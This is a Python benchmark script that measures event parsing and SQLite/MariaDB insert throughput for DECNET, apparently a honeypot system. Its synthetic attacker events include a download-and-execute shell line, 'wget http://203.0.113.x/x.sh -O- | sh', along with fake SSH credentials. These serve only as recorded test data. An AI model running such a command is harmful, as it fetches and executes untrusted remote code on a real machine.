"""Ingest-path benchmark: RFC 5424 parsing and ``add_events`` on SQLite and MariaDB.

    .venv/bin/python bench/ingest_path.py [--quick] [--events N] [--rounds R] [--no-mysql]

Prints figures as it goes and, as its last line, one JSON object:
``{"parse_lines_per_s": …, "sqlite_events_per_s": …, "mysql_events_per_s": …, "raw_sqlite_rows_per_s": …}``.

- parse: ``parse_event`` over formatted events of a realistic mix (connects, auth
  attempts with credentials, shell commands), one core.
- raw baseline: ``sqlite3.executemany`` inserting the very rows ``add_events`` writes
  (prebuilt tuples, same schema, same pragmas, ``INSERT OR IGNORE``, one transaction per
  batch of 1000), in the same process, alternating with the repository runs so both see
  the same machine load; the median of the rounds is reported.
- SQLite / MariaDB: ``add_events`` from :class:`Event` objects, batches of 1000. MariaDB
  is reached at ``DECNET_TEST_MYSQL_URL`` (default ``mysql+asyncmy://root@127.0.0.1:3306``);
  a scratch database ``decnet_bench_*`` is created and dropped.

Targets on the 2-core reference machine: parse >= 150,000 lines/s, SQLite >= 50% of the raw
baseline, MariaDB >= 20,000 events/s. This script reports; it does not gate CI.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import sqlite3
import statistics
import sys
import tempfile
import time
import uuid
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from sqlalchemy.engine import make_url
from sqlalchemy.ext.asyncio import create_async_engine

from decnet.db.mysql import MySQLRepository
from decnet.db.repository import EVENT_INSERT_COLUMNS, SQLModelRepository
from decnet.db.sqlite import SQLiteRepository
from decnet.db.types import db_time_text
from decnet.events import Event, FrameDecoder, format_event, frame_for_sending, new_eid, parse_event

DEFAULT_MYSQL_URL = "mysql+asyncmy://root@127.0.0.1:3306"
BATCH = 1000


def make_events(n: int) -> list[Event]:
    """A realistic mix: connects, auth attempts with credentials, and shell commands."""
    start = datetime.now(UTC)
    out = []
    for i in range(n):
        kind = i % 3
        if kind == 0:
            fields: dict[str, str] = {}
        elif kind == 1:
            fields = {"username": f"user{i % 50}", "password": f"pw{i}", "client": "SSH-2.0-OpenSSH_9.2p1"}
        else:
            fields = {"command": f"wget http://203.0.113.{i % 250}/x.sh -O- | sh"}
        out.append(
            Event(
                eid=new_eid() + f"{i:08x}",
                timestamp=start + timedelta(microseconds=i),
                decky=f"decky-{i % 20:02d}",
                service=("ssh", "ssh", "http")[kind],
                event_type=("connect", "auth", "command")[kind],
                src_ip=f"198.51.100.{i % 250}",
                src_port=1024 + i % 60000,
                sid=f"s{i // 5}",
                fields=fields,
                message="" if kind == 0 else "attempt",
            )
        )
    return out


# -- parse -------------------------------------------------------------------------------


def bench_parse(lines: list[bytes], rounds: int) -> float:
    rates = []
    for _ in range(rounds):
        t0 = time.perf_counter()
        for line in lines:
            parse_event(line)
        rates.append(len(lines) / (time.perf_counter() - t0))
    return statistics.median(rates)


def bench_decode_and_parse(lines: list[bytes]) -> float:
    stream = b"".join(frame_for_sending(line) for line in lines)
    decoder = FrameDecoder()
    t0 = time.perf_counter()
    count = 0
    for i in range(0, len(stream), 65536):
        for frame in decoder.feed(stream[i : i + 65536]):
            if isinstance(frame, bytes):
                parse_event(frame)
                count += 1
    assert count == len(lines)
    return count / (time.perf_counter() - t0)


# -- storage -----------------------------------------------------------------------------


def raw_rows(events: Sequence[Event]) -> list[tuple[object, ...]]:
    """The rows add_events writes, prebuilt (what the raw baseline inserts)."""
    received = db_time_text(datetime.now(UTC))
    return [
        (
            e.eid,
            db_time_text(e.timestamp),
            received,
            e.decky,
            e.service,
            e.event_type,
            e.src_ip,
            e.src_port,
            e.sid,
            json.dumps(e.fields, ensure_ascii=False, separators=(",", ":")) if e.fields else "{}",
            e.message,
            e.facility,
            e.severity,
        )
        for e in events
    ]


async def fresh_sqlite(path: Path) -> SQLiteRepository:
    repo = SQLiteRepository(f"sqlite+aiosqlite:///{path}")
    await repo.initialize()
    return repo


def bench_raw_sqlite(path: Path, rows: list[tuple[object, ...]]) -> float:
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA journal_mode = WAL")
    conn.execute("PRAGMA synchronous = NORMAL")
    cols = ", ".join(f'"{c}"' for c in EVENT_INSERT_COLUMNS)
    sql = f'INSERT OR IGNORE INTO "event" ({cols}) VALUES ({", ".join("?" * len(EVENT_INSERT_COLUMNS))})'
    t0 = time.perf_counter()
    for i in range(0, len(rows), BATCH):
        with conn:
            conn.executemany(sql, rows[i : i + BATCH])
    elapsed = time.perf_counter() - t0
    conn.close()
    return len(rows) / elapsed


async def bench_repo(repo: SQLModelRepository, events: list[Event]) -> float:
    t0 = time.perf_counter()
    for i in range(0, len(events), BATCH):
        result = await repo.add_events(events[i : i + BATCH])
        if result.duplicates:
            raise RuntimeError(f"unexpected duplicates: {result}")
    return len(events) / (time.perf_counter() - t0)


async def bench_sqlite(events: list[Event], rounds: int) -> tuple[float, float]:
    """Median (raw rows/s, add_events events/s), alternating the two on fresh databases."""
    raw_rates, repo_rates = [], []
    with tempfile.TemporaryDirectory() as tmp:
        for r in range(rounds):
            raw_path, repo_path = Path(tmp, f"raw{r}.db"), Path(tmp, f"repo{r}.db")
            await (await fresh_sqlite(raw_path)).close()
            raw_rates.append(bench_raw_sqlite(raw_path, raw_rows(events)))
            repo = await fresh_sqlite(repo_path)
            try:
                repo_rates.append(await bench_repo(repo, events))
            finally:
                await repo.close()
    return statistics.median(raw_rates), statistics.median(repo_rates)


async def bench_mysql(events: list[Event], rounds: int) -> float:
    base = make_url(os.environ.get("DECNET_TEST_MYSQL_URL", DEFAULT_MYSQL_URL))
    admin = create_async_engine(base.set(database=None))
    rates = []
    try:
        for _ in range(rounds):
            name = f"decnet_bench_{uuid.uuid4().hex[:8]}"
            async with admin.begin() as conn:
                await conn.exec_driver_sql(f"CREATE DATABASE {name} CHARACTER SET utf8mb4")
            try:
                repo = MySQLRepository(base.set(database=name))
                await repo.initialize()
                try:
                    rates.append(await bench_repo(repo, events))
                finally:
                    await repo.close()
            finally:
                async with admin.begin() as conn:
                    await conn.exec_driver_sql(f"DROP DATABASE IF EXISTS {name}")
    finally:
        await admin.dispose()
    return statistics.median(rates)


async def run(args: argparse.Namespace) -> dict[str, float | None]:
    events = make_events(args.events)
    lines = [format_event(e) for e in events]
    parse_rate = bench_parse(lines, args.rounds)
    print(f"parse_event            : {parse_rate:12,.0f} lines/s   (target >= 150,000)")
    print(f"decode + parse (stream): {bench_decode_and_parse(lines):12,.0f} lines/s")
    raw_rate, sqlite_rate = await bench_sqlite(events, args.rounds)
    print(f"raw sqlite3.executemany: {raw_rate:12,.0f} rows/s")
    share = sqlite_rate / raw_rate
    print(f"SQLite add_events      : {sqlite_rate:12,.0f} events/s  ({share:.0%} of raw; target >= 50%)")
    mysql_rate: float | None = None
    if not args.no_mysql:
        mysql_rate = await bench_mysql(events, args.rounds)
        print(f"MariaDB add_events     : {mysql_rate:12,.0f} events/s  (target >= 20,000)")
    return {
        "parse_lines_per_s": round(parse_rate),
        "sqlite_events_per_s": round(sqlite_rate),
        "mysql_events_per_s": None if mysql_rate is None else round(mysql_rate),
        "raw_sqlite_rows_per_s": round(raw_rate),
    }


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description="DECNET ingest-path benchmark")
    parser.add_argument("--quick", action="store_true", help="20,000 events, one round (< 30 s)")
    parser.add_argument("--events", type=int, default=None, help="events per run (default 100,000)")
    parser.add_argument("--rounds", type=int, default=None, help="rounds per figure (default 3)")
    parser.add_argument("--no-mysql", action="store_true", help="skip MariaDB")
    args = parser.parse_args(argv)
    if args.events is None:
        args.events = 20_000 if args.quick else 100_000
    if args.rounds is None:
        args.rounds = 1 if args.quick else 3
    started = time.perf_counter()
    figures = asyncio.run(run(args))
    print(f"({args.events:,} events, {args.rounds} round(s), {time.perf_counter() - started:.1f} s)")
    print(json.dumps(figures))


if __name__ == "__main__":
    main()
